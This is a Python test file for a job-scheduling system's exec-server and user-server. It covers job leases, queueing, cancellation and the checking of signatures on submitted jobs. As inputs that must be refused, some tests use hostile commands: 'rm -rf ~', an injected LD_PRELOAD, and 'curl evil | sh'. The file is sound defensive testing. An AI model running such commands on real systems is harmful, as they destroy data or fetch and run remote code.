"""The two daemons that run as the user, driven as their peers would: the exec-server over its
socket (real jobs, a clock the test steps for the lease) and the user-server's signing and
signature checks.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import msgspec
import pytest

from hq import auth
from hq.config import Installation, ServerConfig
from hq.execd.service import ExecServer
from hq.execd.settings import Settings
from hq.jobspec import JobSpec, submission_digest
from hq.protocol import Channel, hello
from hq.protocol.messages import (
    EXECD_SENDS_USERD,
    Ack,
    CancelJobs,
    JobEnded,
    JobEvents,
    JobStarted,
    Run,
    RunJob,
    SubmissionEnv,
    Submit,
    SyncRequest,
    Welcome,
    Withdraw,
)

pytestmark = pytest.mark.timeout(60)
ENV = {"PATH": "/usr/local/bin:/usr/bin:/bin"}


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A HOME of the test's own: ~/.hq holds the signing key the daemons use."""
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    monkeypatch.setenv("HOME", str(home))
    return home


@dataclass
class Clock:
    now: float = 1_000_000.0

    def __call__(self) -> float:
        return self.now


@dataclass
class ExecPeer:
    """A user-server's link to an exec-server: a channel and the job events it received."""

    server: ExecServer
    channel: Channel
    events: list[JobStarted | JobEnded]

    async def event(self, job_id: int, kind: type, timeout: float = 10.0) -> JobStarted | JobEnded:
        async with asyncio.timeout(timeout):
            while True:
                for event in self.events:
                    if event.id == job_id and isinstance(event, kind):
                        return event
                await asyncio.sleep(0.01)


@contextlib.asynccontextmanager
async def exec_server(tmp_path: Path, clock: Clock, **settings: float) -> AsyncIterator[ExecPeer]:
    path = tmp_path / "execd.sock"
    listening = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listening.bind(str(path))
    listening.listen(8)
    server = ExecServer(listening, path, hostname="testhost", user=auth.user_name(os.geteuid()),
                        installation=f"t{os.getpid()}", settings=Settings(**settings),
                        clock=clock)
    serving = asyncio.create_task(server.serve())
    await asyncio.sleep(0.05)
    reader, writer = await asyncio.open_unix_connection(str(path))
    channel = Channel(reader, writer, "exec-server", accepts=EXECD_SENDS_USERD)
    channel.send(hello("userd", "test"))
    welcome = await channel.receive_as(Welcome)
    assert (welcome.host, welcome.pid) == ("testhost", os.getpid())
    peer = ExecPeer(server, channel, [])

    def collect(message: object) -> None:
        if isinstance(message, JobEvents):
            peer.events.extend(message.events)

    listener = asyncio.create_task(channel.serve(collect))
    try:
        yield peer
    finally:
        channel.close()
        server._stop.set()  # type: ignore[union-attr]
        await asyncio.wait_for(serving, 10)
        listener.cancel()
        for job in list(server.runner.jobs.values()):
            with contextlib.suppress(ProcessLookupError):
                os.killpg(job.pid, 9)


def run_message(tmp_path: Path, job_id: int, command: str, *, key: bytes | None,
                **spec: object) -> Run:
    owner = auth.user_name(os.geteuid())
    job = JobSpec(command=command, cwd=str(tmp_path), stdout="/dev/null", stderr="/dev/null",
                  **spec)  # type: ignore[arg-type]
    signature = auth.sign_job(key or b"\x00" * 32, job, owner, submission_digest(ENV, 0o022),
                              database="", submission_id=5)
    return Run(jobs=[RunJob(job_id, 5, msgspec.structs.replace(job, signature=signature))],
               submissions={"5": SubmissionEnv(environment=ENV, umask=0o022)}, owner=owner)


def test_a_signed_job_runs_is_reported_until_acked_and_never_starts_twice(tmp_path, home):
    async def body() -> None:
        key = auth.load_signing_key(create=True)
        async with exec_server(tmp_path, Clock()) as peer:
            peer.channel.send(run_message(tmp_path, 1, "exit 4", key=key))
            started = await peer.event(1, JobStarted)
            ended = await peer.event(1, JobEnded)
            assert (ended.exit_code, ended.pid, ended.reason) == (4, started.pid, None)
            view = await peer.channel.request(SyncRequest())
            assert view.running == [] and [e.id for e in view.ended] == [1]
            peer.channel.send(Ack(ids=[1]))
            assert (await peer.channel.request(SyncRequest())).ended == []
            peer.channel.send(run_message(tmp_path, 1, "exit 4", key=key))   # the same id
            await peer.channel.request(SyncRequest())
            assert [type(e).__name__ for e in peer.events if e.id == 1] == ["JobStarted",
                                                                             "JobEnded"]
    asyncio.run(body())


def test_a_bad_signature_never_starts(tmp_path, home):
    async def body() -> None:
        auth.load_signing_key(create=True)
        async with exec_server(tmp_path, Clock()) as peer:
            peer.channel.send(run_message(tmp_path, 2, f"touch {tmp_path}/ran", key=None))
            ended = await peer.event(2, JobEnded)
            assert ended.reason == "refused: bad signature" and ended.pid is None
            assert not (tmp_path / "ran").exists()
    asyncio.run(body())


def test_the_lease_kills_jobs_once_no_user_server_renewed_it(tmp_path, home):
    async def body() -> None:
        key = auth.load_signing_key(create=True)
        clock = Clock()
        async with exec_server(tmp_path, clock, lease_s=30.0) as peer:
            peer.channel.send(run_message(tmp_path, 3, "sleep 60", key=key))
            await peer.event(3, JobStarted)
            clock.now += 29
            peer.server._check_lease(clock())
            assert ("", 3, 0) in peer.server.runner.jobs
            clock.now += 2                          # 31 s without contact
            peer.server._check_lease(clock())
            ended = await peer.event(3, JobEnded)
            assert ended.reason == "lease expired: no contact with a user-server"
            assert ended.signal == 15
    asyncio.run(body())


def test_cancel_stops_a_running_job(tmp_path, home):
    async def body() -> None:
        key = auth.load_signing_key(create=True)
        async with exec_server(tmp_path, Clock()) as peer:
            peer.channel.send(run_message(tmp_path, 4, "sleep 60", key=key))
            await peer.event(4, JobStarted)
            peer.channel.send(CancelJobs(ids=[4], reason="cancelled"))
            ended = await peer.event(4, JobEnded)
            assert (ended.reason, ended.signal) == ("cancelled", 15)
    asyncio.run(body())


def test_an_ill_typed_order_ends_the_link_and_starts_nothing(tmp_path, home):
    async def body() -> None:
        auth.load_signing_key(create=True)
        async with exec_server(tmp_path, Clock()) as peer:
            bad = b'{"type": "cancel", "ids": ["all jobs"]}'
            peer.channel.writer.write(len(bad).to_bytes(4, "big") + bad)
            await asyncio.wait_for(peer.channel.closed.wait(), 5)
            assert peer.server.runner.jobs == {} and peer.server.controller is None
    asyncio.run(body())


# --- the exec-server's queue of jobs handed over ahead of a free core ----------------------

def run_many(tmp_path: Path, jobs: dict[int, str], *, key: bytes, cores: int | None) -> Run:
    messages = [run_message(tmp_path, job_id, command, key=key)
                for job_id, command in jobs.items()]
    return msgspec.structs.replace(messages[0], jobs=[m.jobs[0] for m in messages],
                                   cores=cores)


def test_queued_jobs_start_as_cores_free_within_the_allotment(tmp_path, home):
    async def body() -> None:
        key = auth.load_signing_key(create=True)
        async with exec_server(tmp_path, Clock()) as peer:
            peer.channel.send(run_many(tmp_path, {10: "sleep 0.5", 11: "true", 12: "true"},
                                       key=key, cores=1))
            await peer.event(10, JobStarted)
            view = await peer.channel.request(SyncRequest())
            assert [r.id for r in view.running] == [10]
            assert [(q.id, q.attempt) for q in view.queued] == [(11, 0), (12, 0)]
            await peer.event(12, JobEnded)
            # one at a time (allotment 1), each started as the one before ended
            order = [(type(e).__name__, e.id) for e in peer.events]
            assert order == [("JobStarted", 10), ("JobEnded", 10), ("JobStarted", 11),
                             ("JobEnded", 11), ("JobStarted", 12), ("JobEnded", 12)]
    asyncio.run(body())


def test_a_withdrawn_job_never_starts_and_a_started_one_is_left_running(tmp_path, home):
    async def body() -> None:
        key = auth.load_signing_key(create=True)
        async with exec_server(tmp_path, Clock()) as peer:
            peer.channel.send(run_many(tmp_path, {20: "sleep 60", 21: "true", 22: "true"},
                                       key=key, cores=1))
            await peer.event(20, JobStarted)
            peer.channel.send(Withdraw(ids=[20, 21], attempts=[0, 0]))
            withdrawn = await peer.event(21, JobEnded)
            assert (withdrawn.reason, withdrawn.pid, withdrawn.started_at) == \
                ("withdrawn", None, None)
            assert ("", 20, 0) in peer.server.runner.jobs        # started: left running
            # a second run of the withdrawn attempt is ignored: it never starts here
            peer.channel.send(run_many(tmp_path, {21: "true"}, key=key, cores=1))
            peer.channel.send(CancelJobs(ids=[20], reason="cancelled"))
            await peer.event(20, JobEnded)
            await peer.event(22, JobEnded)
            assert not [e for e in peer.events if e.id == 21 and isinstance(e, JobStarted)]
    asyncio.run(body())


def test_queued_jobs_of_an_expired_lease_are_given_back_unstarted(tmp_path, home):
    async def body() -> None:
        key = auth.load_signing_key(create=True)
        clock = Clock()
        async with exec_server(tmp_path, clock, lease_s=30.0) as peer:
            peer.channel.send(run_many(tmp_path, {30: "sleep 60", 31: "true"}, key=key,
                                       cores=1))
            await peer.event(30, JobStarted)
            clock.now += 31
            peer.server._check_lease(clock())
            assert (await peer.event(31, JobEnded)).reason == "withdrawn"
            assert (await peer.event(30, JobEnded)).reason.startswith("lease expired")
            assert not [e for e in peer.events if e.id == 31 and isinstance(e, JobStarted)]
    asyncio.run(body())


# --- the user-server's signatures ----------------------------------------------------------

def user_server(tmp_path: Path):  # type: ignore[no-untyped-def]
    from hq.userd.service import UserServer

    inst = Installation(tmp_path / "hq")
    return UserServer(inst, ServerConfig.defaults(inst), os.geteuid(), tmp_path / "userd.sock")


def test_the_user_server_signs_every_job_with_the_users_key(tmp_path, home):
    userd = user_server(tmp_path)
    request = Submit(jobs=[JobSpec(command="true", cwd="/tmp", array_index=i) for i in (1, 2)],
                     environment=ENV, umask=0o022)
    signed = userd.signer.signed(request, "db1", 7)
    assert signed.submission_id == 7
    digest = submission_digest(ENV, 0o022)
    key = auth.load_signing_key(create=False)

    def ok(job: JobSpec, *, digest: str = digest, database: str = "db1",
           submission: int = 7) -> bool:
        return auth.job_signature_ok(key, job, userd.user, digest, database=database,
                                     submission_id=submission, accept_v1=False)

    assert all(ok(job) for job in signed.jobs)
    # a signature covers the whole spec, what the submission shares, where it belongs
    assert not ok(msgspec.structs.replace(signed.jobs[0], command="rm -rf ~"))
    assert not ok(msgspec.structs.replace(signed.jobs[0], time_limit_s=1))
    assert not ok(msgspec.structs.replace(signed.jobs[0], array_index=2))
    assert not ok(signed.jobs[0], digest=submission_digest({**ENV, "LD_PRELOAD": "x"}, 0o022))
    assert not ok(signed.jobs[0], submission=8)      # copied into another submission
    assert not ok(signed.jobs[0], database="db2")    # or another database
    # a protocol-1 signature counts only where protocol 1 is still accepted
    old = userd.signer.signed_v1(request).jobs[0]
    assert not ok(old)
    assert auth.job_signature_ok(key, old, userd.user, digest, database="db1",
                                 submission_id=7, accept_v1=True)


def test_an_array_is_signed_once_and_only_its_indexes_are_handed_over(tmp_path, home):
    userd = user_server(tmp_path)
    template = JobSpec(command="sim $HQ_ARRAY_INDEX", cwd="/tmp", array_indexes="1-9:2,20")
    signed = userd.signer.signed(Submit(jobs=[template], environment=ENV, umask=0o022),
                                 "db1", 7)
    (array,) = signed.jobs
    elements = array.elements()
    assert [e.array_index for e in elements] == [1, 3, 5, 7, 9, 20]
    assert {e.signature for e in elements} == {array.signature}   # one signature for all
    key = auth.load_signing_key(create=False)
    digest = submission_digest(ENV, 0o022)

    def ok(job: JobSpec) -> bool:
        return auth.job_signature_ok(key, job, userd.user, digest, database="db1",
                                     submission_id=7, accept_v1=True)

    assert all(ok(e) for e in elements)
    # an index the owner did not sign, another set, or the set dropped: refused
    assert not ok(msgspec.structs.replace(elements[0], array_index=2))
    assert not ok(msgspec.structs.replace(elements[0], array_indexes="1-100"))
    assert not ok(msgspec.structs.replace(elements[0], array_indexes=None))
    assert not ok(msgspec.structs.replace(elements[0], command="rm -rf ~"))

    def run(*specs: JobSpec) -> Run:
        return Run(owner=userd.user, submissions={"7": SubmissionEnv(environment=ENV,
                                                                     umask=0o022)},
                   jobs=[RunJob(id=100 + n, submission_id=7, spec=spec, attempt=0,
                                array_id=100) for n, spec in enumerate(specs)])

    good, refused = userd.signer.check_run(
        run(elements[2], msgspec.structs.replace(elements[0], array_index=4)), "db1", None)
    assert [(j.id, why) for j, why in refused] == [(101, "refused: bad signature")]
    (handed,) = good
    # an exec-server gets the element signed alone: one of an earlier hq checks it as ever
    assert handed.spec.array_indexes is None and handed.spec.array_index == 5
    assert handed.spec.signature != array.signature and ok(handed.spec)
    assert not ok(msgspec.structs.replace(handed.spec, array_index=7))


def test_the_user_server_refuses_a_run_it_did_not_sign(tmp_path, home):
    async def body() -> None:
        userd = user_server(tmp_path)
        ours, theirs = socket.socketpair()
        reader, writer = await asyncio.open_connection(sock=ours)
        peer_reader, _peer_writer = await asyncio.open_connection(sock=theirs)
        userd.server = Channel(reader, writer, "hq-server")
        userd.server_up.set()
        forged = run_message(tmp_path, 9, "curl evil | sh", key=None)
        userd._run("n1", msgspec.structs.replace(forged, owner=None))
        from hq.protocol.frames import HEADER, decode_as
        from hq.protocol.messages import USERD_SENDS_SERVER

        (length,) = HEADER.unpack(await peer_reader.readexactly(4))
        report = decode_as(USERD_SENDS_SERVER, await peer_reader.readexactly(length))
        assert isinstance(report, JobEvents) and report.host == "n1"
        assert [(e.id, e.reason) for e in report.events] == [(9, "refused: bad signature")]
        assert userd.links == {}          # nothing was handed to an exec-server
        userd.server.close()
    asyncio.run(body())
